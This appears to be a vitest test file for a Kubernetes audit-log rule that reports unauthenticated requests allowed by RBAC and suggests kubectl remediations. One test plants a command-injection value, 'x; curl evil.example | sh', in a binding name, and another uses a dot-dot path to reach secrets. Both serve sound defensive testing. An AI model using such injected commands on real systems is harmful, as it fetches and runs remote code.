import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { anonymousRequestAllowed as rule } from '../../lambda/rules/audit/anonymous-request-allowed';
import { isPublicInfoPath, PUBLIC_INFO_URI_INSIGHTS } from '../../lambda/rules/support/request-target';
import type { AuditEvent, AuditUser } from '../../lambda/model/records';
import { auditEvent, hasReal, readAuditJsonl, REAL_DIR, record, scan } from './helpers';

const ANONYMOUS: AuditUser = { username: 'system:anonymous', groups: ['system:unauthenticated'] };
const SCANNER_UA = 'Mozilla/5.0 zgrab/0.x';

/** A request by an unauthenticated caller from outside, as the API server audits it. */
function anonymous(uri: string, code: number, extra: Partial<Parameters<typeof auditEvent>[0]> = {}): AuditEvent {
  const e = auditEvent({ user: ANONYMOUS, verb: 'get', uri, code, userAgent: SCANNER_UA, ...extra });
  e.sourceIPs = ['203.0.113.45'];
  return e;
}

const VIEW_BINDING = 'RBAC: allowed by ClusterRoleBinding "anonymous-view" of ClusterRole "view" to Group "system:unauthenticated"';
const PUBLIC_INFO = 'RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"';

describe('anonymous-request-allowed', () => {
  it('reports a resource granted to system:unauthenticated, naming the binding to delete', () => {
    // Prepare: someone bound the view ClusterRole to every unauthenticated caller; a scanner lists ConfigMaps twice.
    const list = (): AuditEvent => anonymous('/api/v1/namespaces/kube-system/configmaps?limit=500', 200, {
      verb: 'list', reason: VIEW_BINDING, objectRef: { resource: 'configmaps', namespace: 'kube-system', apiVersion: 'v1' },
    });

    // Act
    const { findings, ruleErrors } = scan([rule], [list(), list()]);

    // Assess
    expect(ruleErrors).toEqual([]);
    expect(findings).toHaveLength(1);
    const f = findings[0]!;
    expect(f).toMatchObject({ ruleId: 'anonymous-request-allowed', severity: 'high', subject: { username: 'system:anonymous', resource: 'configmaps' }, count: 2 });
    expect(f.message).toContain(`An unauthenticated caller (system:anonymous) was allowed list x2 on resource configmaps 2 time(s)`);
    expect(f.message).toContain(`from 203.0.113.45 (${SCANNER_UA})`);
    expect(f.message).toContain('RBAC allowed it through ClusterRoleBinding "anonymous-view" (ClusterRole "view") bound to Group "system:unauthenticated".');
    expect(f.message).toContain('Certain: the API server authorized it.');
    expect(f.remediation).toMatch(/^kubectl delete clusterrolebinding anonymous-view \(or remove the system:unauthenticated subject from it\)\./);
    expect(f.remediation).toContain('publicAccessCidrs');
    expect(f.evidence[0]).toMatchObject({ verb: 'list', code: 200, decision: 'allow', reason: VIEW_BINDING });
  });

  it('names a RoleBinding with its namespace', () => {
    // Prepare
    const e = anonymous('/api/v1/namespaces/shop/pods', 200, {
      verb: 'list', objectRef: { resource: 'pods', namespace: 'shop', apiVersion: 'v1' },
      reason: 'RBAC: allowed by RoleBinding "public-read/shop" of Role "pod-reader" to User "system:anonymous"',
    });

    // Act
    const { findings } = scan([rule], [e]);

    // Assess
    expect(findings[0]!.remediation).toMatch(/^kubectl delete rolebinding public-read -n shop \(or remove the system:anonymous subject from it\)\./);
  });

  it('puts no binding name into the kubectl command unless it is a valid Kubernetes name', () => {
    // Prepare: a crafted log whose reason names a binding with shell syntax in it.
    const e = anonymous('/api/v1/pods', 200, {
      verb: 'list', objectRef: { resource: 'pods', apiVersion: 'v1' },
      reason: 'RBAC: allowed by ClusterRoleBinding "x; curl evil.example | sh" of ClusterRole "view" to Group "system:unauthenticated"',
    });

    // Act
    const { findings } = scan([rule], [e]);

    // Assess
    expect(findings[0]!.remediation).toMatch(/^kubectl delete clusterrolebinding <name> \(or remove/);
  });

  it('reports a non-resource path, and an allow with no RBAC reason as another authorizer\'s', () => {
    // Act
    const { findings } = scan([rule], [anonymous('/metrics', 200)]);

    // Assess
    expect(findings.map((f) => f.subject)).toEqual([{ username: 'system:anonymous', path: '/metrics' }]);
    expect(findings[0]!.message).toContain('No RBAC reason was recorded: another authorizer');
  });

  it('does not take a dot-dot path under /healthz for a health check', () => {
    const { findings } = scan([rule], [anonymous('/healthz/../api/v1/secrets', 200)]);
    expect(findings.map((f) => f.subject['path'])).toEqual(['/healthz/../api/v1/secrets']);
  });

  it('judges a truncated event that lost its annotations by its status code', () => {
    // Prepare
    const allowed = anonymous('/api/v1/nodes', 200, { objectRef: { resource: 'nodes', apiVersion: 'v1' } });
    const refused = anonymous('/api/v1/secrets', 403, { objectRef: { resource: 'secrets', apiVersion: 'v1' } });
    delete allowed.annotations;
    delete refused.annotations;

    // Act
    const { findings } = scan([rule], [record(allowed, { truncated: true }), record(refused, { truncated: true })]);

    // Assess
    expect(findings.map((f) => f.subject['resource'])).toEqual(['nodes']);
  });

  it('counts an aggregated Logs Insights row as all the requests it stands for', () => {
    const row = record(anonymous('/openapi/v2', 200), { aggregate: { count: 17, firstSeen: '2026-11-27T10:00:00.000Z', lastSeen: '2026-11-27T10:30:00.000Z' } });
    const { findings } = scan([rule], [row]);
    expect(findings.map((f) => [f.count, f.message.includes('get x17')])).toEqual([[17, true]]);
  });

  it.each([
    '/healthz', '/livez', '/readyz', '/version', '/version/', '/readyz?verbose', '/livez/ping', '/readyz/etcd', '/healthz/poststarthook/rbac/bootstrap-roles',
  ])('leaves the health check %s alone', (uri) => {
    expect(scan([rule], [anonymous(uri, 200, { reason: PUBLIC_INFO })]).findings).toEqual([]);
  });

  it.each([
    ['an anonymous request that was refused', anonymous('/api/v1/secrets', 403, { objectRef: { resource: 'secrets', apiVersion: 'v1' } })],
    ['an authenticated user allowed the same resource', auditEvent({ user: { username: 'kubernetes-admin', groups: ['system:masters', 'system:authenticated'] }, verb: 'list', uri: '/api/v1/configmaps', code: 200, objectRef: { resource: 'configmaps', apiVersion: 'v1' } })],
    ['EKS\'s node manager', auditEvent({ user: { username: 'eks:node-manager', groups: ['system:authenticated'] }, verb: 'patch', uri: '/api/v1/nodes/n1', code: 200, objectRef: { resource: 'nodes', name: 'n1', apiVersion: 'v1' } })],
  ])('reports nothing for %s', (_name, e) => {
    expect(scan([rule], [e]).findings).toEqual([]);
  });

  it('leaves out, in Logs Insights, exactly the health checks it leaves out locally', () => {
    // Prepare: the Insights regex, as a JS regular expression.
    const insights = new RegExp(PUBLIC_INFO_URI_INSIGHTS.slice(1, -1));
    const uris = ['/healthz', '/readyz?verbose', '/version/', '/livez/ping', '/metrics', '/healthz/../api', '/versions', '/api/v1/pods', '/readyzz'];

    // Act
    const local = uris.map((u) => isPublicInfoPath(u.split('?')[0]!));
    const server = uris.map((u) => insights.test(u));

    // Assess
    expect(server).toEqual(local);
    expect(local).toEqual([true, true, true, true, false, false, false, false, false]);
    expect(rule.needs.filter).toContain(`requestURI not like ${PUBLIC_INFO_URI_INSIGHTS}`);
  });

  it.skipIf(!hasReal)('leaves the real anonymous /version call and web-scanner probe alone (Panther test events)', () => {
    // Prepare
    const records = readAuditJsonl(join(REAL_DIR, 'panther-eks-audit-normalized.jsonl'));

    // Act
    const { findings, ruleErrors } = scan([rule], records);

    // Assess: one allowed /version (system:public-info-viewer), one scanner path refused with 403.
    expect(records.filter((r) => r.event.user?.username === 'system:anonymous')).toHaveLength(2);
    expect(ruleErrors).toEqual([]);
    expect(findings).toEqual([]);
  });
});
